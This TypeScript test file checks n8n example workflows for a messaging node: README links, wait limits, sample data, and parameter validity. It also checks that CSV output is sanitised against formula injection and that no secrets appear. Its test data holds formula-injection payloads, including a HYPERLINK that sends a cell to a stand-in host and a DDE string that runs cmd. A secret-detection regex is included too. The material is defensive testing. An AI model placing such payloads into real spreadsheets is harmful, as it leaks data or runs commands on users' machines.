import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { runInNewContext } from 'node:vm';
import { type INode, type INodeParameters, type INodeProperties, NodeHelpers } from 'n8n-workflow';

import type { NodeJson, WorkflowJson } from '../../scripts/n8n/client';
import { examplesFolder } from '../../scripts/paths';
import { description } from './support/form';
import { readByN8n } from './support/readByN8n';

interface Placed extends NodeJson {
	parameters: INodeParameters;
	onError?: string;
}

interface Example extends WorkflowJson {
	nodes: Placed[];
	connections: Record<string, { main?: Array<Array<{ node: string }> | null> }>;
	pinData?: Record<string, [{ json: { body: object } }]>;
}

const files = readdirSync(examplesFolder).filter((name) => name.endsWith('.json'));
const textOf = (file: string) => readFileSync(path.join(examplesFolder, file), 'utf8');
const read = (file: string) => JSON.parse(textOf(file)) as Example;

const isText = { type: 'string', operation: 'equals' };
const wanted = [
	{ leftValue: '={{ $json.outcome }}', rightValue: 'accepted', operator: isText },
	{ leftValue: '={{ $json.test }}', operator: { type: 'object', operation: 'notExists' } },
];

const isOurs = ({ type }: NodeJson) => type.startsWith('n8n-nodes-customer-messaging.');
const isStart = ({ type }: NodeJson) => /Trigger$|\.webhook$/.test(type);
const codeIn = (parameter: unknown) => (parameter as string).replace(/^=\{\{|\}\}$/g, '');

// What examples do in n8n is in the scenarios of test/live. These rules hold for all of them.
describe.each(files)('%s', (file) => {
	const text = textOf(file);
	const { nodes, connections, pinData = {} } = read(file);
	const ofType = (ending: string) => nodes.filter(({ type }) => type.endsWith(ending));
	const others = nodes.filter(({ type }) => !type.endsWith('.stickyNote'));
	const targetsOf = (name: string, output: number) =>
		(connections[name]?.main?.[output] ?? []).map(({ node }) => node);

	test('is named in the overview, and names the address of its webhook or form', () => {
		expect(textOf('README.md')).toContain(`](${file})`);
		const named = [...text.matchAll(/localhost:5678\/((?:webhook|form)\/[\w-]+)/g)];
		const own = others.filter(isStart).flatMap(({ parameters: { path: at, options } }) => {
			const ofForm = (options as { path?: string } | undefined)?.path;
			return ofForm ? `form/${ofForm}` : at ? `webhook/${at as string}` : [];
		});
		expect(named.map(([, address]) => address).sort()).toEqual(own.sort());
	});

	test('does not wait forever for a person', () => {
		for (const node of others) {
			const { type, parameters } = node;
			if (/\.form$/.test(type) || parameters.resume === 'form')
				expect(parameters.limitWaitTime).toBe(true);
			if (isOurs(node) && parameters.operation === 'sendAndWait')
				expect(parameters).toHaveProperty('options.limitWaitTime.values.limitType');
		}
	});

	test('runs its sample with the large Execute button, without an account elsewhere', () => {
		const elsewhere = others.filter(({ type }) => /\.(hubspot|googleSheets)/.test(type));
		const webhooks = ofType('.webhook');
		const partsOfCall = ['headers', 'params', 'query', 'body'];
		expect(Object.keys(pinData)).toEqual([...webhooks, ...elsewhere].map(({ name }) => name));
		for (const { name } of webhooks)
			expect(Object.keys(pinData[name]?.[0].json ?? {})).toEqual(partsOfCall);
	});

	test('sends its sample to nobody behind a trigger', () => {
		// These send to fixed people.
		if (/^every-/.test(file)) return;
		const triggers = others.filter(isStart).filter(({ type }) => !/\.(manual|chat)/i.test(type));
		const reached = new Set(triggers.map(({ name }) => name));
		// The set grows while it is walked.
		for (const name of reached)
			for (const { node } of connections[name]?.main?.flatMap((targets) => targets ?? []) ?? [])
				reached.add(node);
		const samples = others.filter(({ parameters }) =>
			/\b[A-Z]-\d{4}\b|\bAsha/.test(JSON.stringify(parameters)),
		);
		expect(samples.filter(({ name }) => reached.has(name))).toEqual([]);
	});

	test('lets only what was accepted count as sent, and goes on with what failed', () => {
		const next = others.filter(isOurs).flatMap(({ name }) => targetsOf(name, 0));
		const ends = others.filter(
			({ name, type }) => next.includes(name) && /\.(noOp|filter)$/.test(type),
		);
		for (const { type, parameters } of ends)
			expect([type, parameters.conditions]).toMatchObject([
				'n8n-nodes-base.filter',
				{ conditions: wanted },
			]);
		for (const { name, onError } of others)
			if (onError === 'continueErrorOutput') expect(targetsOf(name, 1)).toHaveLength(1);
	});

	const hostile = {
		...{ '=SUM(1)': '=HYPERLINK("https://x.example/?"&A1)', name: "@SUM(1+1)*cmd|'/c calc'!A0" },
		...{ tab: '\t=1', return: '\r=1', line: '\n=1', minus: '-2+3', mobile: '+4915112345678' },
		...{ nested: { deep: ['=1', { more: '+1' }] }, number: -5, nothing: null, is: true },
	};
	const harmless = { quoted: 'a"=b', slash: 'c:\\', text: 'a = b', apostrophe: "'s", $: "$& $'" };
	const textsIn = (value: unknown): string[] =>
		typeof value === 'object' && value !== null
			? Object.entries(value).flatMap(([key, inside]) => [key, ...textsIn(inside)])
			: [value].filter((one) => typeof one === 'string');
	const rewrite = (name: string, $json: unknown): unknown => {
		const { parameters } = nodes.find((one) => one.name === name) ?? {};
		return JSON.parse(runInNewContext(codeIn(parameters?.jsonOutput), { $json }) as string);
	};

	test('writes no formula into a file, and reads it back as it was', () => {
		const writers = ofType('.convertToFile').filter(
			({ parameters: { operation = 'csv' } }) => operation !== 'toText',
		);
		for (const { name } of writers) {
			const before = Object.keys(connections).filter((one) => targetsOf(one, 0).includes(name));
			expect(before).toEqual(['No formulas']);
			const written = rewrite('No formulas', { ...hostile, ...harmless });
			expect(textsIn(written).filter((cell) => /^[=+\-@\t\r\n]/.test(cell))).toEqual([]);
			expect(written).toMatchObject({ ...harmless, mobile: "'+4915112345678", number: -5 });
			if (ofType('.formTrigger').length > 0)
				expect(rewrite('Read the rows', written)).toEqual({ ...hostile, ...harmless });
		}
	});

	test.each(others.filter(isOurs).map((node) => [node.name, node] as const))(
		'%s has only parameters that the node knows',
		(_name, { type, parameters: all }) => {
			// n8n adds these two parameters to every tool.
			const { descriptionType: _kind, toolDescription: _text, ...ofTool } = all;
			const parameters = type.endsWith('Tool') ? ofTool : all;
			const node = { type, typeVersion: 1, parameters } as INode;
			const { properties } = description;
			expect(NodeHelpers.getNodeParametersIssues(properties, node, description)).toBeNull();
			for (const [name, value] of Object.entries(parameters)) {
				const visible = properties.find(
					(property) =>
						property.name === name &&
						NodeHelpers.displayParameter(parameters, property, node, description),
				);
				expect([name, visible && unknownOptions(visible, value)]).toEqual([name, []]);
			}
		},
	);

	test('holds no secret, no path of a machine, no environment and no address of others', () => {
		const secrets = 'brandId|apiKey|accessToken|x-api-key|authorization';
		for (const pattern of [
			/\$env|process\.env|\/(home|root|Users|tmp|work)\/|\b[A-Z]:\\|Bearer /,
			new RegExp(`"(${secrets})"|sandbox-(key|token|brand)"`),
		])
			expect(pattern.exec(text)).toBeNull();
		const kept = others.flatMap(({ credentials }) => Object.values(credentials ?? {}));
		for (const credential of kept) {
			expect(Object.keys(credential)).toEqual(['id', 'name']);
			expect(credential.id).toMatch(/^sandbox-(api-key|partner-token)$/);
		}
		for (const [, host] of text.matchAll(/(?:https?:\/\/|@)([a-z0-9.-]+\.[a-z]+)/gi))
			expect(host).toMatch(/(^|\.)example\.com$/);
	});
});

/** The chosen options and added fields that the form does not offer. */
function unknownOptions({ options = [], type, typeOptions }: INodeProperties, value: unknown) {
	if (typeof value === 'string' && value.startsWith('=')) return [];
	const offered = options.map((option) => ('value' in option ? option.value : option.name));
	const chosen = () => {
		if (type === 'options' && !typeOptions?.loadOptionsMethod) return [value as string];
		if (type === 'multiOptions') return value as string[];
		return /^(c|fixedC)ollection$/.test(type) ? Object.keys(value as object) : [];
	};
	return chosen().filter((one) => !offered.includes(one));
}

const ofForm = { submittedAt: '2030-01-15T15:30:00.000+01:00', formMode: 'production' };
const takingRows = files.filter((file) => /^(?:new-crm-row|shop-order)/.test(file));
test.each(takingRows)('%s reads rows of a webhook, a form and a sheet', (file) => {
	const { nodes, connections, pinData } = read(file);
	const trigger = nodes.find(({ type }) => type.endsWith('.webhook'))?.name ?? '';
	const [next] = connections[trigger]?.main?.[0] ?? [];
	const reader = nodes.find(({ name }) => name === next?.node);
	const row = pinData?.[trigger]?.[0].json.body ?? {};
	const call = { headers: {}, params: {}, query: {}, body: row };
	for (const item of [call, { ...row, ...ofForm }, { row_number: 2, ...row }])
		expect(JSON.parse(readByN8n(reader?.parameters.jsonOutput, item) as string)).toMatchObject(row);
});

test('The list in parts counts as left out whom it read and who never came out', () => {
	const { nodes } = read('very-large-list-in-parts.json');
	const count = nodes.find(({ name }) => name === 'Count')?.parameters.assignments;
	const { assignments } = count as { assignments: Array<{ name: string; value: string }> };
	const code = codeIn(assignments.find(({ name }) => name === 'leftOut')?.value);
	const leftOut = (ids: string[], parts: object[]): unknown => {
		const rows = ids.map((userID) => ({ userID }));
		const items: Record<string, object[]> = { 'Read the rows': rows, Parts: parts };
		const $ = (name: string) => ({ all: () => items[name]?.map((json) => ({ json })) });
		return runInNewContext(code, { $ });
	};
	const ends = [
		{ user_id: 'U-1', outcome: 'accepted' },
		{ user_id: 'U-1', outcome: 'skipped' },
		{ userID: 'U-2', outcome: 'rejected' },
		{ userID: '', outcome: 'invalid' },
	];
	const all = ['U-1', ' U-2', ''];
	expect(leftOut(all, ends)).toBe(0);
	// A second list in the loop.
	expect(leftOut(all, [...ends, { userID: 'U-8' }, { userID: 'U-9' }])).toBe(2);
	expect(leftOut([...all, 'U-8', 'U-8'], ends)).toBe(1);
});
